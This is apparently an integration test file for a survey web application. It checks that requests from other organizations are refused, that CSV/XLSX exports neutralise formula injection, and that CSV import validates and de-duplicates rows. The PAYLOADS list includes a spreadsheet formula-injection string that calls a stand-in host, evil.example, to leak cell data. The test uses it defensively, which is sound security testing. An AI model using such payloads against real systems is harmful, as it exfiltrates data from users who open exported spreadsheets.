/**
 * Survey data in and out, against the real built server: every survey route with another
 * organization's ids (0 successes), exports with formula injection neutralised (0 formulas),
 * CSV import with bad rows reported by line, nothing half-imported, re-import idempotent.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client, setupOrganization, signIn, startServer, type RunningServer } from '../helpers/server';
import { liveSurvey, response, storedResponses, withContext } from '../helpers/surveys';

let server: RunningServer;
let admin: Client;
let mine: { id: string; slug: string };

const post = (id: string, body: unknown) =>
	fetch(`${server.url}/api/v1/surveys/${id}/responses`, {
		method: 'POST',
		headers: { 'content-type': 'application/json' },
		body: JSON.stringify(body)
	});

beforeAll(async () => {
	server = await startServer({ env: { BODY_SIZE_LIMIT: '20M' } });
	admin = await setupOrganization(server);
	mine = await withContext(server.dataDir, (ctx) => liveSurvey(ctx, { settings: { ipLimitPerMinute: '100000' } }));
});
afterAll(async () => server?.dispose());

describe('organizations are sealed from each other (surveys)', () => {
	it("refuses every survey route and API call with another organization's survey id (0 cross-tenant successes)", async () => {
		const theirs = await withContext(server.dataDir, async (ctx) => {
			await ctx.accounts.provisionOrganization({
				organizationName: 'Other Town',
				timeZone: 'UTC',
				name: 'Bob',
				email: 'bob@other.gov',
				password: 'other password'
			});
			return liveSurvey(ctx, { email: 'bob@other.gov', title: 'Their survey' });
		});
		const bob = await signIn(server, 'bob@other.gov', 'other password');
		expect((await post(theirs.id, response({ overall: 4, comment: 'theirs' }))).status).toBe(201);
		const token = /cl_[a-z2-7]{32}/.exec(await (await admin.form('/settings?/createToken', { name: 'x' })).text())![0];
		const upload = new FormData();
		upload.set('file', new File(['overall\n4\n'], 'r.csv', { type: 'text/csv' }));
		const id = theirs.id;
		const attempts: [string, () => Promise<Response>][] = [
			['API get', () => admin.request(`/api/v1/surveys/${id}`)],
			['API get (token)', () => admin.request(`/api/v1/surveys/${id}`, { headers: { authorization: `Bearer ${token}` } })],
			[
				'API feed (token)',
				() => admin.json(`/api/v1/surveys/${id}/responses`, 'POST', response({ overall: 1, fix_first: 'x' }, { channel: 'api' }), { token })
			],
			[
				'API feed (session)',
				() => admin.json(`/api/v1/surveys/${id}/responses`, 'POST', response({ overall: 1, fix_first: 'x' }, { channel: 'field' }))
			],
			['page', () => admin.request(`/surveys/${id}`)],
			['edit page', () => admin.request(`/surveys/${id}/edit`)],
			['preview', () => admin.request(`/surveys/${id}/preview`)],
			['import page', () => admin.request(`/surveys/${id}/import`)],
			['csv', () => admin.request(`/surveys/${id}/responses.csv`)],
			['xlsx', () => admin.request(`/surveys/${id}/responses.xlsx`)],
			['qr', () => admin.request(`/surveys/${id}/qr.svg`)],
			['live feed', () => admin.request(`/surveys/${id}/live`)],
			['field mode', () => admin.request(`/surveys/${id}/field`)],
			['quotas (API)', () => admin.request(`/api/v1/surveys/${id}/quotas`)],
			['quotas put (API)', () => admin.json(`/api/v1/surveys/${id}/quotas`, 'PUT', { quotas: [] })],
			['quotas form', () => admin.form(`/surveys/${id}?/quotas`, {})],
			['tokens', () => admin.form(`/surveys/${id}/tokens.csv`, { count: '2' })],
			['close', () => admin.form(`/surveys/${id}?/act`, { action: 'close' })],
			['settings', () => admin.form(`/surveys/${id}?/settings`, { title: 'Hijacked' })],
			['copy', () => admin.form(`/surveys/${id}?/copy`, {})],
			['edit op', () => admin.form(`/surveys/${id}/edit?/op`, { op: 'removeQuestion', key: 'comment' })],
			['preview step', () => admin.form(`/surveys/${id}/preview?/next`, { section: '0', 'q.overall': '4' })],
			[
				'import upload',
				() => admin.request(`/surveys/${id}/import?/upload`, { method: 'POST', body: upload, headers: { accept: 'text/html' } })
			],
			['import run', () => admin.form(`/surveys/${id}/import?/run`, { upload: crypto.randomUUID(), 'map:overall': 'overall' })]
		];
		let successes = 0;
		for (const [name, attempt] of attempts) {
			const res = await attempt();
			const body = await res.text();
			if (res.status < 400 || body.includes('theirs')) successes++;
			expect(res.status, name).toBeGreaterThanOrEqual(400);
		}
		expect(successes).toBe(0);
		// The same routes answer for our own survey (so the refusals above are about the organization).
		for (const path of ['', '/preview', '/import', '/responses.csv', '/responses.xlsx', '/qr.svg'])
			expect((await admin.request(`/surveys/${mine.id}${path}`)).status, path).toBe(200);
		expect((await admin.request(`/api/v1/surveys/${mine.id}`)).status).toBe(200);
		// The live feed streams our survey's count (first event), and nothing of theirs.
		const abort = new AbortController();
		const live = await admin.request(`/surveys/${mine.id}/live`, { signal: abort.signal });
		expect(live.headers.get('content-type')).toContain('text/event-stream');
		const first = new TextDecoder().decode((await live.body!.getReader().read()).value);
		expect(first).toMatch(/^data: \{"responses":\d+,"byChannel":/);
		abort.abort();
		const list = (await (await admin.request('/api/v1/surveys')).json()).surveys as { id: string }[];
		expect(list.map((s) => s.id)).toEqual(expect.arrayContaining([mine.id]));
		expect(list.map((s) => s.id)).not.toContain(id);
		// Bob's survey is untouched and still his.
		const bobView = await (await bob.request(`/api/v1/surveys/${id}`)).json();
		expect(bobView.survey.status).toBe('live');
		expect(bobView.survey.title).toBe('Their survey');
		expect(storedResponses(server.dataDir, id).rows).toBe(1);
	});
});

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1,2)', '\tTAB', '\rCR', 'plain'];

describe('exports', () => {
	it('neutralises formula injection in CSV and XLSX (0 cells read as formulas)', async () => {
		for (const p of PAYLOADS) expect((await post(mine.id, response({ overall: 4, comment: p, mode: 'bus' }))).status).toBe(201);
		const csv = await admin.request(`/surveys/${mine.id}/responses.csv`);
		expect(csv.status).toBe(200);
		expect(csv.headers.get('content-disposition')).toMatch(/attachment; filename=".*\.csv"/);
		const rows = Papa.parse<Record<string, string>>((await csv.text()).replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
		expect(Object.keys(rows[0]!)).toEqual(['overall', 'fix_first', 'mode', 'comment', 'kids', 'channel', 'language', 'submitted_at']);
		const comments = rows.map((r) => r.comment);
		expect(comments).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
		let formulas = 0;
		for (const c of [...comments, ...rows.flatMap((r) => Object.values(r))])
			if (/^[=+\-@\t\r]/.test(c ?? '') && !/^-?\d+$/.test(c ?? '')) formulas++;
		expect(formulas).toBe(0);
		expect(rows.find((r) => r.comment === 'plain')!.mode).toBe('Bus');
		const codes = Papa.parse<Record<string, string>>(
			(await (await admin.request(`/surveys/${mine.id}/responses.csv?values=codes`)).text()).replace(/^\uFEFF/, ''),
			{
				header: true
			}
		).data;
		expect(codes.find((r) => r.comment === 'plain')!.mode).toBe('bus');

		const xlsx = await admin.request(`/surveys/${mine.id}/responses.xlsx`);
		expect(xlsx.status).toBe(200);
		const wb = new ExcelJS.Workbook();
		await wb.xlsx.load(await xlsx.arrayBuffer());
		const cells: ExcelJS.CellValue[] = [];
		wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push(cell.value)));
		const formulaCells = cells.filter((v) => typeof v === 'object' && v !== null && 'formula' in v);
		expect(formulaCells.length).toBe(0);
		expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
		expect(cells.filter((v) => typeof v === 'string' && /^[=+@\t\r]/.test(v)).length).toBe(0);
	});
});

async function stage(csv: string): Promise<string> {
	const body = new FormData();
	body.set('file', new File([csv], 'responses.csv', { type: 'text/csv' }));
	const res = await admin.request(`/surveys/${mine.id}/import?/upload`, { method: 'POST', body, headers: { accept: 'text/html' } });
	expect(res.status).toBe(303);
	return new URL(res.headers.get('location')!, server.url).searchParams.get('upload')!;
}

async function runImport(upload: string): Promise<string> {
	const res = await admin.form(`/surveys/${mine.id}/import?/run`, {
		upload,
		idColumn: 'row_id',
		'map:row_id': '',
		'map:overall': 'overall',
		'map:fix_first': 'fix_first',
		'map:mode': 'mode',
		'map:kids': 'kids'
	});
	expect(res.status).toBe(200);
	return res.text();
}

describe('CSV import', () => {
	const csv = [
		'row_id,overall,fix_first,mode,kids,language',
		'r1,5,,Car,2,en',
		'r2,1,Potholes on Main,bus,0,en',
		'r3,1,,car,1,en', // line 4: required follow-up missing
		'r4,Muy buena,,Autobús,3,es',
		'r5,7,,car,1,en', // line 6: rating out of range
		'r6,3,,train,1,en', // line 7: unknown option
		'r7,dk,,,,en'
	].join('\n');

	it('reports bad rows by line, imports the rest in one go, and is idempotent on re-import', async () => {
		const before = storedResponses(server.dataDir, mine.id).rows;
		const preview = await (await admin.request(`/surveys/${mine.id}/import?upload=${await stage(csv)}`)).text();
		expect(preview).toContain('Match columns to questions');
		expect(preview).toMatch(/<option value="overall" selected/);
		const html = await runImport(await stage(csv));
		const lines = [...html.matchAll(/<td data-label="Line">(\d+)<\/td>/g)].map((m) => Number(m[1]));
		expect(lines).toEqual([4, 6, 7]);
		expect(html).toMatch(/7 rows read: <strong>4 imported<\/strong>/);
		expect(html).toContain('fix_first: This question needs an answer.');
		expect(storedResponses(server.dataDir, mine.id).rows).toBe(before + 4);

		const again = await runImport(await stage(csv));
		expect(again).toMatch(/<strong>0 imported<\/strong>,\s*4 already imported before/);
		expect(storedResponses(server.dataDir, mine.id).rows).toBe(before + 4);
	});

	it('imports a 100,000-row file completely (its time is reported here and measured by bench:intake)', async () => {
		const rows = ['row_id,overall,fix_first,mode,kids'];
		for (let i = 0; i < 100_000; i++)
			rows.push(`big${i},${(i % 5) + 1},${i % 5 < 2 ? 'street lights' : ''},${i % 2 ? 'car' : 'bus'},${i % 4}`);
		const started = performance.now();
		const html = await runImport(await stage(rows.join('\n')));
		const seconds = (performance.now() - started) / 1000;
		expect(html).toMatch(/100,000 rows read: <strong>100,000 imported<\/strong>/);
		console.log(`import of 100,000 rows: ${seconds.toFixed(1)} s`);
	});
});
